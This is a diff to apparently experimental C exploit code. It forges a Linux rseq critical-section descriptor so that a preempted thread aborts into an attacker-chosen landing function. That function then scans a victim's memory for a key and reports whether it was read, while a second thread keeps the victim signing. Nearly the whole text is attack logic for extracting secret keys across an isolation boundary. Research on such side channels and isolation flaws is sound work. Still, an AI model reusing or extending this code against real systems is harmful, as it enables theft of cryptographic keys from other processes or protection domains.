@@ -17,12 +17,25 @@
 extern const char rseq_landing[];
 void rseq_landed(void);
 
-/* The rights are those of the place that it was taken from. */
+static void *sign_for_ever(void *arg)
+{
+    outcome_thread();
+    for (;;) {
+        victim_sign();
+    }
+    return arg;
+}
+
+/* The rights are those of the place that it was taken from. If that was in the
+ * module and outside of the domain, it goes on signing. */
 void rseq_landed(void)
 {
-    cell(needles_find(victim.target, NEEDLE_LEN) != NULL
-             ? "**key read**"
-             : "something else read");
+    const unsigned char *found = NULL;
+
+    if (SURVIVES(found = needles_find(victim.target, NEEDLE_LEN))) {
+        cell(found != NULL ? "**key read**" : "something else read");
+    }
+    sign_for_ever(NULL);
 }
 
 static struct rseq_cs forged __attribute__((aligned(32)));
@@ -39,14 +52,6 @@ static bool forge(const struct mapping *m, void *arg)
     forged.post_commit_offset = m->len;
     forged.abort_ip = (uintptr_t)rseq_landing;
     return true;
-}
-
-static void *sign_for_ever(void *arg)
-{
-    for (;;) {
-        victim_sign();
-    }
-    return arg;
 }
 
 /* With the signing thread on this CPU, so that waking up preempts it. */
